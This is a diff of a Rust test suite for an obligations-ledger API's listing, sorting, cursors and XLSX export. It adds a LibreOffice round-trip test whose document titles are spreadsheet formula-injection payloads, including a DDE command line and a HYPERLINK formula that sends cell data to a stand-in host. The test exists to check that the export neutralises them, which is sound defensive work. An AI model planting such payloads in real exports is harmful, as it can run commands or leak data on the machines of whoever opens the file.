@@ -1,26 +1,37 @@
 //! The ledger: what it is filtered by, and its workbook, read back by another library.
 
-use std::io::Cursor;
+use std::{
+    io::{Cursor, Read, Seek},
+    process::Command,
+};
 
-use calamine::{Data, Reader as _, Xlsx};
+use calamine::{Data, DataType as _, Ods, Range, Reader, Xlsx};
 use jiff::SignedDuration;
 use serde_json::Value;
 
-use crate::support::{Answer, TestHub, advice, answer_to, id_of};
+use crate::support::{Answer, Paper, TestHub, advice, answer_to, id_of};
 
 const DAY: SignedDuration = SignedDuration::from_hours(24);
 const PATH: &str = "/api/v1/obligations";
 
 /// The rows of the workbook, each cell as a text.
-fn rows(answer: &Answer) -> Vec<Vec<String>> {
-    let mut book: Xlsx<_> = calamine::open_workbook_from_rs(Cursor::new(&answer.bytes)).unwrap();
+pub fn rows(answer: &Answer) -> Vec<Vec<String>> {
+    let book: Xlsx<_> = calamine::open_workbook_from_rs(Cursor::new(&answer.bytes)).unwrap();
+    texts(&sheet_of(book))
+}
+
+/// The sheet of the ledger, which calculates nothing.
+fn sheet_of<R: Read + Seek, B: Reader<R, Error: std::fmt::Debug>>(mut book: B) -> Range<Data> {
     assert_eq!(book.sheet_names(), ["台账", "说明"]);
     let formulas = book.worksheet_formula("台账").unwrap();
     assert!(
         formulas.used_cells().next().is_none(),
         "nothing is calculated"
     );
-    let sheet = book.worksheet_range("台账").unwrap();
+    book.worksheet_range("台账").unwrap()
+}
+
+fn texts(sheet: &Range<Data>) -> Vec<Vec<String>> {
     let cell = |cell: &Data| match cell {
         Data::DateTime(at) => {
             let (year, month, day, ..) = at.to_ymd_hms_milli();
@@ -34,7 +45,8 @@ fn rows(answer: &Answer) -> Vec<Vec<String>> {
         .collect()
 }
 
-async fn listed(hub: &TestHub, login: &str, query: &str) -> Vec<Value> {
+/// All that is listed, read in pages of two.
+pub async fn listed(hub: &TestHub, login: &str, query: &str) -> Vec<Value> {
     let mut items = Vec::new();
     let mut cursor = String::new();
     loop {
@@ -44,6 +56,32 @@ async fn listed(hub: &TestHub, login: &str, query: &str) -> Vec<Value> {
         match page["next_cursor"].as_str() {
             Some(next) => cursor = format!("&cursor={next}"),
             None => return items,
+        }
+    }
+}
+
+/// Row by row, what the workbook says is what the list says.
+fn assert_says(table: &[Vec<String>], items: &[Value]) {
+    assert_eq!(table.len(), items.len() + 1);
+    for (place, (row, item)) in table[1..].iter().zip(items).enumerate() {
+        let text = |value: &Value| match value {
+            Value::Null => String::new(),
+            Value::String(text) => text.clone(),
+            other => other.to_string(),
+        };
+        let expected = [
+            (0, (place + 1).to_string()),
+            (1, text(&item["doc_number"])),
+            (2, text(&item["title"])),
+            (3, text(&item["creditor"]["name"])),
+            (4, text(&item["debtor"]["name"])),
+            (5, "2026-09-01".to_owned()),
+            (6, text(&item["due"]["due_on"])),
+            (10, text(&item["state_label"])),
+            (11, text(&item["days_overdue"])),
+        ];
+        for (column, value) in expected {
+            assert_eq!(row[column], value, "row {place}, column {column}");
         }
     }
 }
@@ -95,28 +133,7 @@ async fn the_workbook_says_what_the_list_says() {
     );
     let items = listed(&hub, "resources.reader", "").await;
     assert_eq!(items.len(), 5);
-    assert_eq!(table.len(), 6);
-    for (place, (row, item)) in table[1..].iter().zip(&items).enumerate() {
-        let text = |value: &Value| match value {
-            Value::Null => String::new(),
-            Value::String(text) => text.clone(),
-            other => other.to_string(),
-        };
-        let expected = [
-            (0, (place + 1).to_string()),
-            (1, text(&item["doc_number"])),
-            (2, text(&item["title"])),
-            (3, text(&item["creditor"]["name"])),
-            (4, text(&item["debtor"]["name"])),
-            (5, "2026-09-01".to_owned()),
-            (6, text(&item["due"]["due_on"])),
-            (10, text(&item["state_label"])),
-            (11, text(&item["days_overdue"])),
-        ];
-        for (column, value) in expected {
-            assert_eq!(row[column], value, "row {place}, column {column}");
-        }
-    }
+    assert_says(&table, &items);
     assert_eq!(table[1][2], titles[4]);
     assert!(table[5][8].ends_with("2026-09-01"), "{:?}", table[5]);
     assert!(
@@ -154,7 +171,7 @@ async fn each_criterion_finds_what_it_asks_for() {
     hub.pass(DAY * 20);
     let resources = &open.obligation(&hub, "resources").await["debtor"]["id"];
     let resources = resources.as_str().unwrap().to_owned();
-    let table: &[(&str, &str, Vec<&crate::support::Paper>)] = &[
+    let table: &[(&str, &str, Vec<&Paper>)] = &[
         ("overdue=true", "resources.clerk", vec![&late]),
         ("overdue=false", "resources.clerk", vec![&unsigned, &open]),
         (
@@ -204,7 +221,8 @@ async fn each_criterion_finds_what_it_asks_for() {
         "overdue=perhaps",
         "due_from=2026-13-01",
         "debtor=x",
-        "sort=due",
+        "sort=title",
+        "view=x",
     ] {
         let answer = hub.by("court.clerk").get(format!("{PATH}?{bad}")).await;
         assert_eq!(answer.status, 422, "{bad}: {}", answer.text());
@@ -213,5 +231,148 @@ async fn each_criterion_finds_what_it_asks_for() {
         .by("court.clerk")
         .get(format!("{PATH}/export?limit=2"))
         .await;
-    assert_eq!(paged.status, 422, "{}", paged.text());
+    paged.problem(422, "invalid");
+    assert_eq!(paged.faults(), ["limit unknown"]);
+}
+
+#[tokio::test]
+async fn the_ledger_is_in_the_order_that_is_asked_for() {
+    let hub = TestHub::open().await;
+    let mut papers = Vec::new();
+    for due_on in ["2026-10-20", "2026-10-10", "2026-10-20", "2026-10-15"] {
+        let paper = advice().set("reply_due_on", due_on).sent(&hub).await;
+        hub.pass(SignedDuration::from_secs(1));
+        paper.signed(&hub, "resources").await;
+        papers.push(paper);
+    }
+    papers.push(advice().sent(&hub).await);
+    let login = "resources.clerk";
+    let duty = |item: &Value| id_of(item);
+    let mut twins = Vec::new();
+    for paper in [&papers[0], &papers[2]] {
+        twins.push(duty(&paper.obligation(&hub, "resources").await));
+    }
+    let twins = if twins[0] < twins[1] { [0, 2] } else { [2, 0] };
+    let [first, second] = twins;
+    for (query, expected) in [
+        ("", [4, 3, 2, 1, 0]),
+        ("sort=newest", [4, 3, 2, 1, 0]),
+        ("sort=oldest", [0, 1, 2, 3, 4]),
+        ("sort=due", [1, 3, first, second, 4]),
+        ("sort=-due", [second, first, 3, 1, 4]),
+    ] {
+        let found = listed(&hub, login, query).await;
+        let place = |item: &Value| {
+            let is_of = |paper: &Paper| item["document_id"] == paper.id.to_string();
+            papers.iter().position(is_of).unwrap()
+        };
+        let found: Vec<_> = found.iter().map(place).collect();
+        assert_eq!(found, expected, "{query}");
+        let sheet = hub.by(login).get(format!("{PATH}/export?{query}")).await;
+        let table = rows(&sheet);
+        let days: Vec<_> = table[1..].iter().map(|row| row[6].as_str()).collect();
+        let due = |place: &usize| papers_due(*place);
+        let expected: Vec<_> = expected.iter().map(due).collect();
+        assert_eq!(days, expected, "{query}");
+    }
+    let running = listed(&hub, login, "sort=due&state=awaiting_registration").await;
+    assert_eq!(running.len(), 4);
+    assert_eq!(running[0]["document_id"], papers[1].id.to_string());
+}
+
+/// What people open the workbook with reads it as it was written: LibreOffice takes it over into
+/// its own format, which is read back.
+#[tokio::test]
+async fn libreoffice_finds_the_rows_of_the_list() {
+    if Command::new("soffice").arg("--version").output().is_err() {
+        println!("skipped: there is no soffice; see scripts/system-packages");
+        return;
+    }
+    let hub = TestHub::open().await;
+    let titles = [
+        "=1+1",
+        "+2",
+        "-3",
+        "@SUM(A1:A9)",
+        "=HYPERLINK(\"http://x.invalid/?\"&A1,\"详情\")",
+        "=cmd|'/c calc'!A0",
+        "＝1+1",
+        "\u{202e}=1+1",
+        "'=1+1",
+        "\"=1+1\",2;3",
+        "{=1+1}",
+        "<f>1+1</f>&amp;_x003D_1",
+        "00123",
+        "1E5",
+        "2026-11-24",
+        "TRUE",
+    ];
+    for title in titles {
+        let paper = advice().titled(title).sent(&hub).await;
+        hub.pass(SignedDuration::from_secs(1));
+        if title.starts_with('=') {
+            paper.signed(&hub, "resources").await;
+        }
+    }
+    hub.pass(DAY * 70);
+    let answer = hub
+        .by("resources.reader")
+        .get(format!("{PATH}/export"))
+        .await;
+    let folder = tempfile::tempdir().unwrap();
+    let written = folder.path().join("ledger.xlsx");
+    std::fs::write(&written, &answer.bytes).unwrap();
+    let profile = url::Url::from_directory_path(folder.path().join("profile")).unwrap();
+    let converted = Command::new("soffice")
+        .arg(format!("-env:UserInstallation={profile}"))
+        .args(["--headless", "--convert-to", "ods", "--outdir"])
+        .args([folder.path(), &written])
+        .output()
+        .unwrap();
+    let said = String::from_utf8_lossy(&converted.stderr).into_owned();
+    let book: Ods<_> = calamine::open_workbook(folder.path().join("ledger.ods"))
+        .unwrap_or_else(|error| panic!("{error}: {said}"));
+    let sheet = sheet_of(book);
+    let items = listed(&hub, "resources.reader", "").await;
+    assert_eq!(items.len(), titles.len());
+    assert_says(&texts(&sheet), &items);
+    for place in 1..=titles.len() {
+        assert!(sheet[(place, 2)].is_string(), "{:?}", sheet[(place, 2)]);
+        let day = &sheet[(place, 5)];
+        assert!(day.is_datetime() || day.is_datetime_iso(), "{day:?}");
+    }
+}
+
+/// The days of the papers above, as their sheet has them.
+fn papers_due(place: usize) -> &'static str {
+    ["2026-10-20", "2026-10-10", "2026-10-20", "2026-10-15", ""][place]
+}
+
+#[tokio::test]
+async fn a_cursor_is_good_for_its_own_order_alone() {
+    let hub = TestHub::open().await;
+    for _ in 0..2 {
+        advice().sent(&hub).await;
+    }
+    let clerk = || hub.by("resources.clerk");
+    let orders = ["newest", "oldest", "due", "-due"];
+    for order in orders {
+        let page = clerk().get(format!("{PATH}?limit=1&sort={order}")).await;
+        let page = page.ok();
+        let cursor = page["next_cursor"].as_str().unwrap();
+        for other in orders {
+            let path = format!("{PATH}?limit=1&sort={other}&cursor={cursor}");
+            let answer = clerk().get(path).await;
+            if order == other {
+                let rest = answer.ok();
+                assert_eq!(rest["items"].as_array().unwrap().len(), 1);
+                assert_ne!(rest["items"][0]["id"], page["items"][0]["id"]);
+            } else {
+                answer.problem(422, "invalid");
+                assert_eq!(answer.faults(), ["cursor other_order"]);
+            }
+        }
+    }
+    let answer = clerk().get(format!("{PATH}?cursor=bmV3ZXN0")).await;
+    assert_eq!(answer.faults(), ["cursor malformed"]);
 }
